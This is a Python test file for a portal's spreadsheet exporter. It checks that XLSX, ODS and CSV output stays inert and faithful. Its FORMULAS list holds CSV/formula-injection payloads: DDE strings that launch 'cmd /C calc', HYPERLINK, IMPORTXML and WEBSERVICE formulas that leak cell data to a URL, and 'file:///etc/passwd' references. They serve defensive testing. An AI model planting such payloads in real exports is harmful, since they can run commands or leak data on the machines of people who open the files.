"""The export writer against hostile and odd values (QUALITY rows 25, 26, 29, 32)."""

import csv
import datetime as dt
import io
import os
import re
import shutil
import subprocess
import sys
import time
import zipfile
from decimal import Decimal
from pathlib import Path
from xml.etree import ElementTree

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from cdrp_portal.spreadsheets import (
    CELL_LIMIT,
    WRITERS,
    Book,
    CellTooLongError,
    Column,
    Kind,
    Sheet,
    SpreadsheetError,
    TooManyRowsError,
    to_csv,
    to_ods,
    to_xlsx,
)
from cdrp_portal.spreadsheets.plain import could_be_formula
from cdrp_portal.spreadsheets.styles import STATUS_LOOKS
from tests.spreadsheet_readers import about_csv, read_csv, read_ods, read_xlsx

AS_AT = dt.datetime(2026, 10, 14, 13, 32, tzinfo=dt.UTC)
STATUSES = ["green", "amber", "red", "less_relevant", "not_assessed"]
WORDS = ["Green", "Amber", "Red", "Less relevant", "Not assessed"]
FORMULAS = [
    "=1+1",
    "=1+1|",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://example.org/?x="&A1,"open")',
    '=IMPORTXML("https://example.org","//a")',
    '=WEBSERVICE("https://example.org")',
    '=IMAGE("https://example.org/x.png")',
    "='file:///etc/passwd'#$Sheet1.A1",
    "=[book.xlsx]Sheet1!A1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "'=1+1",
    "''=1+1",
    '"=1+1"',
    "a\n=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    "{=1+1}",
    "of:=1+1",
    '="a"&"b"',
    "-2+3+cmd|' /C calc'!D2",
    "+44 20 7202 0202",
    "-5",
    "=A1:A9",
    '=DDE("cmd";"/C calc";"x")',
    "https://example.org/",
    "mailto:demo@example.org",
    "file:///etc/passwd",
    "internal:Sheet1!A1",
    "\\\\server\\share",
    "=",
    "@",
    "%0A=1+1",
    "=1+1;x,y",
]


def book_of(values, kind=Kind.TEXT, **more):
    """One value a row, beside a number that shows which."""
    columns = [Column("number", "Number", kind=Kind.NUMBER), Column("value", "Value", kind=kind)]
    rows = list(enumerate(values))
    return Book("Round trip", [Sheet("Values", columns, rows)], as_at=AS_AT, **more)


def matrix(rows=33, columns=25):
    heads = [Column("borough", "Borough", 22)] + [
        Column(f"e{n}", f"E{n} Information-sharing protocol", 14, Kind.STATUS) for n in range(columns)
    ]
    values = [
        [f"Borough {row}", *(STATUSES[(row * 7 + column) % 5] for column in range(columns))]
        for row in range(rows)
    ]
    return Book(
        "Health-check matrix",
        [Sheet("Matrix", heads, values, total=33)],
        as_at=AS_AT,
        filters=[("Theme", "Information and intelligence")],
        key=[("Green", "in place with evidence")],
        demonstration=True,
    )


def hostile_book(payloads):
    """Every payload in every column that can hold text, and in every other text of the file."""
    kinds = [Kind.TEXT, Kind.TEXT, Kind.STATUS, Kind.NUMBER, Kind.DATE]
    columns = [Column(f"c{n}", f"{payloads[n]} {n}", kind=kind) for n, kind in enumerate(kinds)]
    rows = [[payload] * len(kinds) for payload in payloads]
    pairs = [(payload, payload) for payload in payloads]
    return Book(
        payloads[0], [Sheet(payloads[5], columns, rows)], as_at=AS_AT, filters=pairs, notes=pairs, key=pairs
    )


def line_breaks(text):
    return text.replace("\r\n", "\n").replace("\r", "\n")


def unguarded(text):
    """What stood in the database, by the documented rule."""
    return text[1:] if text.startswith("'") and could_be_formula(text) else text


def test_formula_payloads_stay_text():
    book = hostile_book(FORMULAS)
    xlsx = to_xlsx(book)
    bad = total = 0

    workbook = openpyxl.load_workbook(io.BytesIO(xlsx))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                total += 1
                bad += cell.data_type == "f" or cell.hyperlink is not None
    links = [name for name in zipfile.ZipFile(io.BytesIO(xlsx)).namelist() if "externalLink" in name]
    relations = [
        target
        for name in zipfile.ZipFile(io.BytesIO(xlsx)).namelist()
        if name.endswith(".rels")
        for target in re.findall(rb'TargetMode="External"', zipfile.ZipFile(io.BytesIO(xlsx)).read(name))
    ]
    content = zipfile.ZipFile(io.BytesIO(to_ods(book))).read("content.xml").decode()
    total += content.count("<table:table-cell")
    bad += content.count("table:formula") + content.count("xlink:href") + content.count("text:a ")
    for row in csv.reader(io.StringIO(to_csv(book).decode("utf-8-sig"), newline="")):
        for field in row:
            total += 1
            bad += bool(re.match(r"\s*[=+\-@＝＋－＠]|[\t\r\n]", field))

    print(f"formula cells: {bad + len(links) + len(relations)} bad / {total}")
    assert len(FORMULAS) >= 40
    assert (bad, links, relations) == (0, [], [])


def test_formula_payloads_read_back_equal():
    bad = total = 0
    for kind in (Kind.TEXT, Kind.STATUS, Kind.NUMBER):
        book = book_of(FORMULAS, kind)
        for read in (read_xlsx(to_xlsx(book)), read_ods(to_ods(book))):
            for payload, row in zip(FORMULAS, read[1:], strict=True):
                total += 1
                bad += row[1] != line_breaks(payload)
        for payload, row in zip(FORMULAS, read_csv(to_csv(book))[1:], strict=True):
            total += 1
            bad += row[1] not in (payload, f"'{payload}") or unguarded(row[1]) != payload

    print(f"formula texts read back: {bad} bad / {total}")
    assert bad == 0


def test_control_a_formula_cell_is_noticed():
    workbook = openpyxl.Workbook()
    workbook.active["A1"] = "=1+1"
    buffer = io.BytesIO()
    workbook.save(buffer)

    assert openpyxl.load_workbook(io.BytesIO(buffer.getvalue())).active["A1"].data_type == "f"


def opened_in_libreoffice(folder: Path, names: list[str]) -> dict[str, str]:
    """Each file as LibreOffice understood it, in flat OpenDocument XML."""
    program = shutil.which("soffice")
    if program is None:
        pytest.skip("LibreOffice is not on this machine")
    subprocess.run(
        [program, f"-env:UserInstallation=file://{folder}/profile", "--headless", "--convert-to", "fods"]
        + ["--infilter=CSV:44,34,76,1" for name in names if name.endswith(".csv")]
        + ["--outdir", str(folder / "out"), *(str(folder / name) for name in names)],
        check=True,
        capture_output=True,
        timeout=120,
    )
    return {name: (folder / "out" / Path(name).with_suffix(".fods")).read_text() for name in names}


@pytest.mark.slow
def test_formula_payloads_opened_in_libreoffice(tmp_path):
    book = hostile_book(FORMULAS)
    raw = io.StringIO()
    csv.writer(raw).writerows([[payload] for payload in FORMULAS])
    (tmp_path / "table.xlsx").write_bytes(to_xlsx(book))
    (tmp_path / "open.ods").write_bytes(to_ods(book))
    (tmp_path / "plain.csv").write_bytes(to_csv(book))
    (tmp_path / "control.csv").write_text(raw.getvalue(), encoding="utf-8-sig", newline="")

    opened = opened_in_libreoffice(tmp_path, ["table.xlsx", "open.ods"])
    opened |= opened_in_libreoffice(tmp_path, ["plain.csv", "control.csv"])

    control = opened.pop("control.csv").count("table:formula=")
    bad = {name: len(re.findall("table:formula=|xlink:href=", xml)) for name, xml in opened.items()}
    total = sum(xml.count("<table:table-cell") for xml in opened.values())
    print(f"formula cells in LibreOffice: {sum(bad.values())} bad / {total}; control {control}")
    assert control > 0
    assert bad == {"table.xlsx": 0, "open.ods": 0, "plain.csv": 0}


@pytest.mark.slow
def test_statuses_opened_in_libreoffice(tmp_path):
    book = matrix()
    (tmp_path / "table.xlsx").write_bytes(to_xlsx(book))
    (tmp_path / "open.ods").write_bytes(to_ods(book))

    opened = opened_in_libreoffice(tmp_path, ["table.xlsx", "open.ods"])

    for xml in opened.values():
        # 825 cells; each word also stands in no other cell, save Green in the key.
        assert sum(len(re.findall(f"<text:p>{word}</text:p>", xml)) for word in WORDS) == 825
        assert xml.count("<table:table-header-rows>") >= 1
        assert "covered-table-cell" not in xml


VALUES = [
    ("-5", "-5", "'-5"),
    ("+44 20 7202 0202", "+44 20 7202 0202", "'+44 20 7202 0202"),
    ("007", "007", "007"),
    ("1234567890123456", "1234567890123456", "1234567890123456"),
    ("one\ntwo\n\nfour", "one\ntwo\n\nfour", "one\ntwo\n\nfour"),
    ("  spaced   out\there ", "  spaced   out\there ", "  spaced   out\there "),
    (
        '_x000D_ <b>&amp;</b> "quoted", it\'s',
        '_x000D_ <b>&amp;</b> "quoted", it\'s',
        '_x000D_ <b>&amp;</b> "quoted", it\'s',
    ),
    ("£238,000 – “agreed”", "£238,000 – “agreed”", "£238,000 – “agreed”"),
    ("1/2", "1/2", "1/2"),
    ("TRUE", "TRUE", "TRUE"),
    ("14 October 2010", "14 October 2010", "14 October 2010"),
    (None, None, ""),
    ("", None, ""),
    (True, "Yes", "Yes"),
    (False, "No", "No"),
    (0, 0, "0"),
    (-5, -5, "-5"),
    (999_999_999_999_999, 999_999_999_999_999, "999999999999999"),
    (1_234_567_890_123_456, "1234567890123456", "1234567890123456"),
    (1.25, 1.25, "1.25"),
    (float("inf"), "inf", "inf"),
    (Decimal("123.10"), Decimal("123.10"), "123.10"),
    (Decimal("0.1234567890123456789"), "0.1234567890123456789", "0.1234567890123456789"),
    (dt.date(2010, 10, 14), dt.date(2010, 10, 14), "2010-10-14"),
    (AS_AT, dt.datetime(2026, 10, 14, 14, 32), "2026-10-14T14:32:00+01:00"),  # noqa: DTZ001 - as cells hold it
    (
        dt.datetime(2026, 12, 1, 23, 30, tzinfo=dt.UTC),
        dt.datetime(2026, 12, 1, 23, 30),  # noqa: DTZ001 - as cells hold it
        "2026-12-01T23:30:00+00:00",
    ),
]


def test_values_read_back_equal():
    book = book_of([value for value, _cell, _field in VALUES])
    xlsx, ods, plain = read_xlsx(to_xlsx(book))[1:], read_ods(to_ods(book))[1:], read_csv(to_csv(book))[1:]
    bad = []
    for number, (value, cell, field) in enumerate(VALUES):
        in_xlsx = xlsx[number][1]
        # XLSX has no days without a time of day, and one kind of number.
        if isinstance(cell, dt.date) and not isinstance(cell, dt.datetime):
            in_xlsx = in_xlsx.date()
        if isinstance(cell, Decimal):
            in_xlsx = Decimal(str(in_xlsx)).quantize(cell)
        bad += [(value, in_xlsx)] * (in_xlsx != cell)
        bad += [(value, ods[number][1])] * (ods[number][1] != cell)
        bad += [(value, plain[number][1])] * (plain[number][1] != field)

    print(f"values read back: {len(bad)} bad / {3 * len(VALUES)}")
    assert bad == []


def test_date_before_excels_calendar_is_text_in_xlsx():
    book = book_of([dt.date(1829, 9, 29)], Kind.DATE)

    assert read_xlsx(to_xlsx(book))[1][1] == "1829-09-29"
    assert read_ods(to_ods(book))[1][1] == dt.date(1829, 9, 29)


legal = st.text(
    st.characters(blacklist_categories=["Cs", "Cc"], blacklist_characters="\ufffe\uffff"), max_size=60
)
spaced = st.lists(st.one_of(legal, st.sampled_from([" ", "  ", "\t", "\n", "=", "'", "_x0041_"])), max_size=8)


@settings(max_examples=60, deadline=None)
@given(st.lists(spaced.map("".join), min_size=1, max_size=10))
def test_any_text_reads_back_equal(texts):
    book = book_of(texts)

    expected = [text or None for text in texts]
    assert [row[1] for row in read_xlsx(to_xlsx(book))[1:]] == expected
    assert [row[1] for row in read_ods(to_ods(book))[1:]] == expected
    assert [unguarded(row[1]) for row in read_csv(to_csv(book))[1:]] == texts


def test_line_breaks_become_the_cells_own():
    book = book_of(["a\r\nb\rc\nd"])

    assert read_xlsx(to_xlsx(book))[1][1] == "a\nb\nc\nd"
    assert read_ods(to_ods(book))[1][1] == "a\nb\nc\nd"
    assert read_csv(to_csv(book))[1][1] == "a\r\nb\rc\nd"


ODD_TITLES = [
    "History", "history", "", "   ", "'quoted'", "a" * 80, "\U0001f600" * 40, "[a]:b*c?d/e\\f", "\x00\x01",
    "\ud800",
    "Matrix & key <2010>", "About", "ABOUT", "'", "=1+1", "a\nb", "Camden’s", "矩阵", "-", "Sheet1",
]  # fmt: skip
ODD_TEXTS = [
    chr(code) for code in (*range(32), 0x7F, 0x85, 0xA0, 0xD800, 0xDFFF, 0xFFFE, 0xFFFF, 0x202E, 0x2028)
]
ODD_TEXTS += [f"a{text}b" for text in ODD_TEXTS[:20]] + [
    "x" * CELL_LIMIT,
    "é" * CELL_LIMIT,
    "\U0001f600" * 16_383,
]


def test_odd_texts_and_names_give_valid_files():
    books = [book_of([text, text[:9] * 2]) for text in ODD_TEXTS]
    books += [
        Book(title, [Sheet(title, [Column("a", "A")], [[title]])] * 3, as_at=AS_AT, notes=[(title, title)])
        for title in ODD_TITLES
    ]
    bad = []
    for book in books:
        xlsx = openpyxl.load_workbook(io.BytesIO(to_xlsx(book)))
        names = xlsx.sheetnames
        well_named = all(
            0 < len(name.encode("utf-16-le")) // 2 <= 31
            and not re.search(r"[\[\]:*?/\\]|^'|'$", name)
            and name.casefold() != "history"
            for name in names
        )
        ods = to_ods(book)
        assert_opendocument(ods)
        tables = [
            table.get("{urn:oasis:names:tc:opendocument:xmlns:table:1.0}name") for table in tables_of(ods)
        ]
        distinct = len({name.casefold() for name in names}) == len(book.sheets) + 1
        if not (well_named and distinct and tables == names):
            bad.append((book.title, names, tables))
        list(csv.reader(io.StringIO(to_csv(book).decode("utf-8-sig"), newline="")))

    print(f"odd files: {len(bad)} bad / {3 * len(books)}")
    assert 3 * len(books) >= 100
    assert bad == []


def tables_of(content):
    xml = ElementTree.fromstring(zipfile.ZipFile(io.BytesIO(content)).read("content.xml"))  # noqa: S314 - our own
    return xml.findall(".//{urn:oasis:names:tc:opendocument:xmlns:table:1.0}table")


def assert_opendocument(content):
    """What every reader needs of the package: type first and plain, each part well formed and listed."""
    package = zipfile.ZipFile(io.BytesIO(content))
    assert package.testzip() is None
    first = package.infolist()[0]
    assert (first.filename, first.compress_type) == ("mimetype", zipfile.ZIP_STORED)
    assert package.read("mimetype") == b"application/vnd.oasis.opendocument.spreadsheet"
    parts = {name for name in package.namelist() if name.endswith(".xml")}
    for name in parts:
        ElementTree.fromstring(package.read(name))  # noqa: S314 - our own
    listed = set(re.findall(rb'full-path="([^"/]+\.xml)"', package.read("META-INF/manifest.xml")))
    assert {name.encode() for name in parts} - {b"META-INF/manifest.xml"} == listed


def test_illegal_characters_become_the_replacement_character():
    book = book_of(["a\x0bb\ufffec"])

    assert read_xlsx(to_xlsx(book))[1][1] == "a\ufffdb\ufffdc"
    assert read_ods(to_ods(book))[1][1] == "a\ufffdb\ufffdc"


@pytest.mark.parametrize("text", ["x" * (CELL_LIMIT + 1), "\U0001f600" * 16_384])
def test_cell_too_long_says_where(text):
    book = book_of(["short", text])

    for write in (to_xlsx, to_ods):
        with pytest.raises(CellTooLongError, match="Row 2 of “Values”, “Value”: 32,768 characters"):
            write(book)
    assert read_csv(to_csv(book))[2][1] == text


@pytest.mark.slow
def test_hundred_thousand_rows():
    columns = [Column("n", "Number", kind=Kind.NUMBER), Column("t", "Text")]
    book = Book("Long", [Sheet("Long", columns, ((n, f"row {n}") for n in range(100_000)))], as_at=AS_AT)

    started = time.perf_counter()
    xlsx, ods, plain = to_xlsx(book), to_ods(book), to_csv(book)
    taken = time.perf_counter() - started

    rows = openpyxl.load_workbook(io.BytesIO(xlsx), read_only=True).worksheets[0].iter_rows(values_only=True)
    assert sum(1 for _row in rows) == 100_001
    assert_opendocument(ods)
    content = zipfile.ZipFile(io.BytesIO(ods)).read("content.xml")
    assert content.count(b'<table:table-row table:style-name="row">') > 100_000
    assert plain.count(b"\r\n") == 100_001
    print(f"100,000 rows three times: {taken:.1f} s")
    assert taken < 20


def test_too_many_rows_says_what_to_do():
    row = ("x",)
    book = Book("Long", [Sheet("Long", [Column("a", "A")], [row] * 1_048_576)], as_at=AS_AT)

    with pytest.raises(TooManyRowsError, match="Filter the list, or export CSV"):
        to_xlsx(book)


def test_each_sheet_is_one_plain_table_with_a_head():
    book = matrix()
    workbook = openpyxl.load_workbook(io.BytesIO(to_xlsx(book)))
    tables = tables_of(to_ods(book))
    namespace = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"
    bad = total = 0
    for sheet in workbook.worksheets:
        total += 1
        head = [cell.value for cell in sheet[1]]
        whole = [table.ref for table in sheet.tables.values()] == [sheet.dimensions]
        bad += bool(sheet.merged_cells.ranges) or not all(head) or not whole or sheet.freeze_panes != "B2"
    for table in tables:
        total += 1
        heads = table.findall(f"{namespace}table-header-rows/{namespace}table-row")
        merged = [cell for cell in table.iter() if "number-columns-spanned" in str(cell.attrib)]
        bad += len(heads) != 1 or bool(merged)
    words = {cell for row in read_xlsx(to_xlsx(book))[1:] for cell in row[1:]}

    print(f"sheets that are not one plain table: {bad} bad / {total}")
    assert bad == 0
    assert words == set(WORDS)


def test_three_formats_agree_cell_for_cell():
    book = matrix()
    expected = [
        [row[0], *(WORDS[STATUSES.index(status)] for status in row[1:])] for row in book.sheets[0].rows
    ]

    assert read_xlsx(to_xlsx(book))[1:] == expected
    assert read_ods(to_ods(book))[1:] == expected
    assert read_csv(to_csv(book))[1:] == expected


def test_file_says_what_it_is():
    book = matrix(rows=7)
    expected = [
        ["About this file", "Detail"],
        ["Title", "Health-check matrix"],
        ["As at", "14 October 2026, 14:32 (London time)"],
        ["Demonstration", "Invented data for demonstration. Nobody's real ratings or words."],
        ["Filter: Theme", "Information and intelligence"],
        ["Rows", "7 of 33"],
        ["Key: Green", "in place with evidence"],
    ]

    assert read_xlsx(to_xlsx(book), sheet=1) == expected
    assert read_ods(to_ods(book), sheet=1) == expected
    told = about_csv(to_csv(book))
    assert told == "About this file: " + "; ".join(f"{item}: {detail}" for item, detail in expected[1:])
    properties = openpyxl.load_workbook(io.BytesIO(to_xlsx(book))).properties
    assert (properties.title, properties.language) == ("Health-check matrix", "en-GB")
    assert properties.created == dt.datetime(2026, 10, 14, 13, 32)  # noqa: DTZ001 - as the file holds it
    meta = zipfile.ZipFile(io.BytesIO(to_ods(book))).read("meta.xml").decode()
    assert "<dc:language>en-GB</dc:language>" in meta
    assert "<dc:date>2026-10-14T13:32:00Z</dc:date>" in meta


def test_empty_list_is_still_a_file_that_says_so():
    book = Book("Empty", [Sheet("Empty", [Column("a", "Borough")], [], total=33)], as_at=AS_AT)

    assert read_xlsx(to_xlsx(book)) == [["Borough"]]
    assert read_ods(to_ods(book)) == [["Borough"]]
    assert read_csv(to_csv(book)) == [["Borough"]]
    assert ["Rows", "0 of 33"] in read_xlsx(to_xlsx(book), sheet=1)
    assert ["Filters", "None: every row is here"] in read_ods(to_ods(book), sheet=1)
    assert "Rows: 0 of 33" in about_csv(to_csv(book))


def test_rows_of_several_sheets_are_counted_apart():
    sheet = Sheet("Boroughs", [Column("a", "A")], [["x"]])
    book = Book("Two", [sheet, Sheet("Authority", [Column("a", "A")], [["y"], ["z"]])], as_at=AS_AT)

    assert read_xlsx(to_xlsx(book), sheet=2)[-2:] == [["Rows of Boroughs", "1"], ["Rows of Authority", "2"]]


def test_statuses_look_alike_in_both():
    book = matrix()
    sheet = openpyxl.load_workbook(io.BytesIO(to_xlsx(book))).worksheets[0]
    content = zipfile.ZipFile(io.BytesIO(to_ods(book))).read("content.xml").decode()
    seen = set()
    for row in sheet.iter_rows(min_row=2, min_col=2):
        for cell in row:
            look = STATUS_LOOKS[cell.value]
            assert cell.fill.fgColor.rgb == f"FF{look.fill[1:]}"
            assert cell.font.color.rgb == f"FF{look.text[1:]}"
            assert cell.font.bold == look.bold
            seen.add(cell.value)
    assert seen == set(WORDS)
    for word, look in STATUS_LOOKS.items():
        style = f"status-{word.lower().replace(' ', '-')}"
        (declared,) = re.findall(f'<style:style style:name="{style}".*?</style:style>', content)
        assert f'fo:background-color="{look.fill}"' in declared
        assert f'fo:color="{look.text}"' in declared
        assert f'fo:font-weight="{"bold" if look.bold else "normal"}"' in declared
        assert content.count(f'table:style-name="{style}"') == sum(
            row.count(word) for row in read_ods(to_ods(book))
        )
    assert sheet["A1"].font.bold
    assert sheet["A1"].border.bottom.style == "medium"
    assert sheet["A2"].font.bold


def test_formula_like_cells_carry_excels_quote_prefix():
    sheet = openpyxl.load_workbook(io.BytesIO(to_xlsx(book_of(["=1+1", "plain"])))).worksheets[0]

    assert sheet["B2"].quotePrefix
    assert not sheet["B3"].quotePrefix


def test_numbers_keep_their_formats():
    columns = [
        Column("m", "Money", kind=Kind.MONEY),
        Column("p", "Share", kind=Kind.PERCENT),
        Column("d", "Date", kind=Kind.DATE),
        Column("t", "Moment", kind=Kind.MOMENT),
    ]
    row = [Decimal("238000"), Decimal("0.25"), dt.date(2010, 10, 14), AS_AT]
    book = Book("Kinds", [Sheet("Kinds", columns, [row], freeze=(1, 0))], as_at=AS_AT)
    sheet = openpyxl.load_workbook(io.BytesIO(to_xlsx(book))).worksheets[0]
    content = zipfile.ZipFile(io.BytesIO(to_ods(book))).read("content.xml").decode()

    assert [cell.number_format for cell in sheet[2]] == [
        "[$£-809]#,##0.00",
        "0%",
        "[$-809]d mmmm yyyy",
        "[$-809]d mmmm yyyy, hh:mm",
    ]
    assert sheet.freeze_panes == "A2"
    assert 'office:value-type="currency" office:currency="GBP" office:value="238000"' in content
    assert 'office:value-type="percentage" office:value="0.25"' in content
    assert 'office:date-value="2026-10-14T14:32:00"' in content


PROBE = """
import hashlib, sys
sys.path.insert(0, sys.argv[1])
from tests.test_spreadsheets import matrix, hostile_book, FORMULAS
from cdrp_portal.spreadsheets import WRITERS
for book in (matrix(), hostile_book(FORMULAS)):
    print([hashlib.sha256(write(book)).hexdigest() for write in WRITERS.values()])
"""


def test_same_book_gives_same_bytes_in_other_processes():
    root = Path(__file__).resolve().parent.parent
    seen = set()
    for seed, zone, language in (
        ("0", "UTC", "C.UTF-8"),
        ("1", "Asia/Tokyo", "C"),
        ("2", "America/New_York", "POSIX"),
    ):
        environment = {**os.environ, "PYTHONHASHSEED": seed, "TZ": zone, "LC_ALL": language}
        probe = subprocess.run(
            [sys.executable, "-W", "ignore", "-c", PROBE, str(root)],
            env=environment, capture_output=True, text=True, check=True, cwd=root,
        )  # fmt: skip
        seen.add(probe.stdout)

    assert len(seen) == 1


@pytest.mark.parametrize("kind", WRITERS)
def test_matrix_is_written_in_half_a_second(kind):
    book = matrix()
    started = time.perf_counter()
    WRITERS[kind](book)
    taken = time.perf_counter() - started

    print(f"{kind}: {taken * 1000:.0f} ms")
    assert taken < 0.5


def test_declarations_that_cannot_be_written_are_refused():
    column = Column("a", "A")
    with pytest.raises(SpreadsheetError, match="has no columns"):
        Sheet("S", [], [])
    with pytest.raises(SpreadsheetError, match="Two columns of “S” have one heading"):
        Sheet("S", [column, Column("b", "a")], [])
    with pytest.raises(SpreadsheetError, match="Row 2 of “S” has 2 values for 1 columns"):
        Sheet("S", [column], [["x"], ["x", "y"]])
    with pytest.raises(SpreadsheetError, match="16,384"):
        Sheet("S", [Column(str(n), str(n)) for n in range(16_385)], [])
    with pytest.raises(SpreadsheetError, match="at least one sheet"):
        Book("B", [], as_at=AS_AT)
    with pytest.raises(SpreadsheetError, match="cannot hold list"):
        to_csv(book_of([["x"]]))
    with pytest.raises(ValueError, match="no time zone"):
        to_csv(book_of([dt.datetime(2010, 10, 14)]))  # noqa: DTZ001 - the point of the test
